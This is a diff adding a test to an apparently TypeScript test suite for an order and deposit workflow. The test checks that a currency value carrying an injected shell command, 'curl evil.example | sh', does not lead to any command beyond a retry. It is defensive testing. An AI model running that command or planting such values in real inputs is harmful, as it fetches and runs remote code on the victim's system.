@@ -124,6 +124,18 @@ describe('an order offers', () => {
     expect(typed(state)).toEqual(commands);
   });
 
+  it('no command with what a stranger has named as a currency', () => {
+    const state = order((fresh) => {
+      fresh.ids = { depositId: 'd-1' };
+      const seen = { depositId: 'd-1', amount: '250.00', currency: 'USDT; curl evil.example | sh #' };
+      fresh.facts = foldFacts(fresh.facts, [
+        { about: 'deposit', event: 'rejected', seen: { ...seen, evidence: 'webhook', seenAt } },
+      ]);
+      fresh.attention = { reason: 'deposit-rejected', since: seenAt };
+    });
+    expect(typed(state)).toEqual(['retryNow']);
+  });
+
   it('nothing that it would refuse once its blanks are filled in', () => {
     const filled: Record<string, unknown> = { amount: '1', transactionId: '0xabc', destination: 'a', code: 'AC04' };
     const bankAccount = { bankAccountId: 'b-2', currency: 'EUR' };
